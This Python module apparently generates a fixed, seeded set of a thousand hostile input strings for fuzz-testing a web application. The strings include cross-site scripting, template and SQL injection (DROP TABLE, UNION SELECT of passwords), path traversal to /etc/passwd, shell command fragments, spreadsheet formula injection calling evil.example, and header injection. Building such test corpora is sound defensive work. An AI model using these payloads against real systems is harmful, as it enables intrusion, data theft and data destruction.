"""A thousand hostile texts, the same in every run: known tricks, each dressed in several ways."""

from __future__ import annotations

import random

SEED = 20260701
HOW_MANY = 1_000

SCRIPTS = [
    "<script>window.pwned=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    '"><script>window.pwned=1</script>',
    "'><img src=x onerror=window.pwned=1>",
    "</textarea><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    '" autofocus onfocus=window.pwned=1 x="',
    "' onmouseover='window.pwned=1",
    "javascript:window.pwned=1",
    "JaVaScRiPt&colon;window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=javascript:window.pwned=1>",
    "<embed src=javascript:window.pwned=1>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:window.pwned=1'>",
    "<form action=//evil.example><button>Go</button></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "<a href='jav\tascript:window.pwned=1'>a</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<!--><img src=x onerror=window.pwned=1>-->",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "<details open ontoggle=window.pwned=1>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
]
TEMPLATES = ["{{7*7}}", "{% debug %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{settings.SECRET_KEY}}"]
SQL = [
    "' OR '1'='1",
    "'; DROP TABLE actions_action; --",
    '" OR ""="',
    "1; SELECT pg_sleep(9)",
    "1) UNION SELECT email, password FROM accounts_user --",
    "%' AND 1=0 UNION SELECT NULL--",
    "\\'; --",
    "*/ OR 1=1 /*",
    "0x27204f522031",
    "%", "_", "\\", "'", '"', "`", ";--", "%%%s%(x)s%d",
]  # fmt: skip
PATHS = [
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "CON", "NUL.txt", "a/./b", "~root", "$(id)", "`id`", "| id", "&& id", "; id",
]  # fmt: skip
CONTROLS = [
    "\x00", "a\x00b", "\x00<script>", "\x01\x02\x03", "\x08\x08", "\x0b\x0c", "\x1b[31mred", "\x7f",
    "\x85", "\u2028", "\u2029", "\ufeff", "\ufffe", "\uffff", "\ud800", "\udfff\ud800", "a\ud83d",
]  # fmt: skip
UNSEEN = [
    "\u202etxt.exe", "\u2066\u2067\u2068", "\u200b\u200c\u200d", "a\u200bb", "\u00ad", "\u061c",
    "العربية", "עברית", "a\u0301" * 60, "Z\u0351\u036b\u0343" * 40, "\U000e0041\U000e0042",
    "👨‍👩‍👧‍👦" * 20, "𝕳𝖊𝖑𝖑𝖔", "ﬁ ﬂ", "İıŞş", "ß", "ǅ",
]  # fmt: skip
FORMULAS = [
    "=1+1", "=HYPERLINK(\"http://evil.example\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)",
    "\t=1+1", "\r=1+1", "＝1+1", "=IMPORTXML(\"http://evil.example\")", ";=1+1", "\"=1+1",
]  # fmt: skip
MARKDOWN = [
    "[a](javascript:window.pwned=1)",
    "[a](JAVASCRIPT&colon;window.pwned=1)",
    "[a]( javascript:window.pwned=1 )",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "![a](x\" onerror=\"window.pwned=1)",
    "![a](https://evil.example/a.png)",
    "[a]: javascript:window.pwned=1\n\n[a]",
    "<javascript:window.pwned=1>",
    "<https://a.example/\"onclick=window.pwned=1>",
    "```html\n<script>window.pwned=1</script>\n```",
    "*" * 500, "_" * 500, "[" * 500, "(" * 500, ">" * 300, "- " * 300, "`" * 500, "![" * 300,
    "[a](" * 200, "<" * 500, "&" * 500, "1. " * 200, "\n" * 500, "| a |\n|---|\n| b |",
]  # fmt: skip
HEADERS = [
    "a\r\nSet-Cookie: pwned=1",
    "a\nLocation: //evil.example",
    "a\r\n\r\n<script>window.pwned=1</script>",
    "%0d%0aSet-Cookie:%20pwned=1",
    "//evil.example",
    "https:evil.example",
    "/\\evil.example",
    "a@evil.example\nBcc: b@evil.example",
]
NUMBERS = [
    "0", "-1", "1e309", "NaN", "Infinity", "-0", "9" * 30, "9" * 5_000, "0x7f", "1_000", "٣", "½",
    "2147483648", "9223372036854775808", "18446744073709551616", "1.5", "1,5",
    " 1 ", "true", "null",
]  # fmt: skip
DATES = [
    "2026-02-30", "0000-00-00", "9999-12-31", "10000-01-01", "-0001-01-01", "2026-13-01",
    "31/02/2026",
    "2026-07-01T25:61:61Z", "2026-07-01T00:00:00+99:99", "1e5-01-01", "tomorrow", "0001-01-01",
]  # fmt: skip
LONG = ["a" * 20_001, "é" * 30_000, "<b>" * 20_000, "\n- a" * 10_000, " " * 50_000, "a " * 40_000]

BY_KIND: dict[str, list[str]] = {
    "script": SCRIPTS,
    "template": TEMPLATES,
    "sql": SQL,
    "path": PATHS,
    "control": CONTROLS,
    "unseen": UNSEEN,
    "formula": FORMULAS,
    "markdown": MARKDOWN,
    "header": HEADERS,
    "number": NUMBERS,
    "date": DATES,
    "long": LONG,
}
PLAIN = [text for texts in BY_KIND.values() for text in texts]


def _dressed(chance: random.Random) -> str:
    """One or two tricks in a sentence, a list, an attribute or in pieces."""
    first, second = chance.choice(PLAIN[: -len(LONG)]), chance.choice(PLAIN[: -len(LONG)])
    return chance.choice(
        [
            f"Speeds fell. {first} See the weir.",
            f"- {first}\n- {second}",
            f"{first}{second}",
            f"**{first}**",
            f"[{first}]({second})",
            f"\"{first}\" '{second}'",
            first[::-1],
            first.upper(),
            f"{first}\r\n{second}",
            first[: len(first) // 2] + second + first[len(first) // 2 :],
            f"<p title='{first}'>{second}</p>",
            f"\u200b{first}\u202e",
        ]
    )


def thousand() -> list[str]:
    """Every trick as it is, and dressed ones up to the number; no two the same."""
    chance = random.Random(SEED)  # noqa: S311 - no secret
    found = dict.fromkeys(PLAIN)
    while len(found) < HOW_MANY:
        found.setdefault(_dressed(chance))
    return list(found)


TEXTS = thousand()


def share(number: int, of: int) -> list[str]:
    """Every so manieth text, so that several doors share them."""
    return TEXTS[number::of]
